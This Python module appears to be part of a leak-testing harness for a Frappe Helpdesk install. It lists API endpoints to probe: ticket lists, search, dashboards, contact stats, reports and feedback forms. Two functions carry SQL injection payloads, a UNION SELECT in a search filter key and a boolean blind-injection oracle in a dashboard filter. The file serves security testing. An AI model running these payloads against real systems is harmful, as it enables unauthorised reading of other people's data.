"""Helpdesk's own lists, searches and numbers; the stand-in has few of them."""

from dev.leaks.asking import Compare, Request, call
from dev.leaks.surface import ORACLE, READ, Steps, Surface, Visit, made_up
from dev.leaks.surfaces.attacks import inserted, removed

TICKET = "helpdesk.helpdesk.doctype.hd_ticket"
DASHBOARD = "helpdesk.api.dashboard.get_dashboard_data"


def _call(function: str, **arguments) -> Request:
	"""A call as Helpdesk's own pages make it; some of its functions take objects, which a form can't send."""
	return Request("POST", f"/api/method/{function}", body=arguments)


def _group_by(visit: Visit) -> Steps:
	for _place, doctype, name in visit.documents("SV Report", "SV Decision Table", seen=0):
		own = yield from inserted("HD Ticket", subject=name, description="x")
		field = "case_number" if doctype == "SV Report" else "table_number"
		view = {
			"view_type": "group_by",
			"group_by_field": "subject",
			"label_doc": doctype,
			"label_field": field,
		}
		yield _call("helpdesk.api.doc.get_list_data", doctype="HD Ticket", view=view, filters={"subject": name}, default_filters={}, rows=["name", "subject"], columns=[])  # fmt: skip
		if own:
			yield from removed("HD Ticket", own)


def _list_data(visit: Visit) -> Steps:
	for doctype in ("HD Ticket", *visit.some(visit.world.doctypes, 2)):
		yield _call(
			"helpdesk.api.doc.get_list_data",
			doctype=doctype,
			rows=["*"],
			columns=[],
			show_customer_portal_fields=0,
		)


def _search(visit: Visit) -> Steps:
	subjects = [c.text for c in visit.world.registry.canaries.values() if c.place.endswith("/case_number")]
	for word in (*visit.some(subjects, 1), "social safety"):
		yield call("helpdesk.search.search", query=word)
		yield call("helpdesk.api.article.search", query=word)


def _newer_search(visit: Visit) -> Steps:
	yield call("helpdesk.api.search.search", query="social safety", filters={})


def _search_filters(visit: Visit) -> Steps:
	attack = {"1=1) union select name, name, name from docs where (1": "1"}
	yield call("helpdesk.api.search.search", query="social", filters=attack)


def _dashboard(visit: Visit) -> Steps:
	for kind in ("number_card", "master", "trend"):
		yield _call(DASHBOARD, dashboard_type=kind, filters={})


def _dashboard_filters(visit: Visit) -> Steps:
	"""A filter that is a question to the whole database."""
	for place, doctype, name in visit.documents():

		def ask(name: str, doctype: str) -> Request:
			text = f"x' or (select count(*) from `tab{doctype}` where name = '{name}') > 0 and 'x' = 'x"
			return _call(DASHBOARD, dashboard_type="number_card", filters={"team": text})

		control = made_up(name)
		yield Compare(ask(name, doctype), name, ask(control, doctype), control, place)


def _stats(visit: Visit) -> Steps:
	for contact in visit.world.facts["contacts"]:
		for function in ("get_ticket_stats", "get_sla_violations", "get_feedback_received"):
			yield call(f"helpdesk.api.ticket_stats.{function}", dt="Contact", dn=contact)


def _staff(visit: Visit) -> Steps:
	yield call("helpdesk.helpdesk.doctype.hd_team.hd_team.get_team_members", team="Social safety")
	yield call("helpdesk.api.session.get_users")


def _reports(visit: Visit) -> Steps:
	for report in visit.world.facts["helpdesk_reports"]:
		yield call("frappe.desk.query_report.run", report_name=report, filters={"from_date": "2020-01-01", "to_date": "2035-01-01"})  # fmt: skip


def _feedback(visit: Visit) -> Steps:
	yield call("frappe.website.doctype.web_form.web_form.get_form_data", doctype="HD Ticket", docname=visit.sealed_ticket, web_form_name="hd-email-feedback")  # fmt: skip


def _maintenance(visit: Visit) -> Steps:
	for function in ("update_sla_status_in_ticket", "close_tickets_after_n_days"):
		yield call(f"{TICKET}.hd_ticket.{function}")


def _agent_home(visit: Visit) -> Steps:
	for function in ("get_recent_feedback", "get_pending_tickets"):
		yield call(f"helpdesk.api.agent_home.agent_home.{function}")


NOTHING = "shows no ticket's text"
SURFACES = (
	Surface(
		"L-02",
		"grouped list with labels of any doctype",
		READ,
		_group_by,
		("helpdesk.api.doc.get_list_data",),
		unproven="labels of ours are for nobody",
		writes=True,
	),
	Surface("L-02", "Helpdesk's list", READ, _list_data, ("helpdesk.api.doc.get_list_data",)),
	Surface(
		"L-24",
		"Helpdesk's search",
		READ,
		_search,
		("helpdesk.search.search",),
		unproven="needs a Redis module that Debian's Redis doesn't have",
	),
	Surface(
		"L-03",
		"filters of Helpdesk's search",
		READ,
		_search_filters,
		("helpdesk.api.search.search",),
		unproven=NOTHING,
	),
	Surface(
		"L-15",
		"dashboard",
		READ,
		_dashboard,
		(DASHBOARD,),
		unproven=NOTHING,
	),
	Surface(
		"L-15",
		"filters of the dashboard",
		ORACLE,
		_dashboard_filters,
		(DASHBOARD,),
		unproven="no filter may be a question",
	),
	Surface(
		"L-24",
		"Helpdesk's newer search",
		READ,
		_newer_search,
		("helpdesk.api.search.search",),
		unproven=NOTHING,
	),
	Surface(
		"L-16",
		"statistics of a contact",
		READ,
		_stats,
		("helpdesk.api.ticket_stats.get_ticket_stats",),
		unproven=NOTHING,
	),
	Surface(
		"L-17", "agent's home", READ, _agent_home, ("helpdesk.api.agent_home.agent_home",), unproven=NOTHING
	),
	Surface(
		"L-18",
		"who works in the team",
		READ,
		_staff,
		("helpdesk.helpdesk.doctype.hd_team.hd_team.get_team_members",),
		unproven=NOTHING,
	),
	Surface(
		"L-21",
		"Helpdesk's reports",
		READ,
		_reports,
		("DocType:HD Ticket", "fact:helpdesk_reports"),
		unproven=NOTHING,
	),
	Surface(
		"L-22", "feedback form", READ, _feedback, ("DocType:HD Ticket Feedback Option",), unproven=NOTHING
	),
	Surface(
		"L-23",
		"maintenance jobs",
		READ,
		_maintenance,
		(f"{TICKET}.hd_ticket.close_tickets_after_n_days",),
		unproven=NOTHING,
	),
)
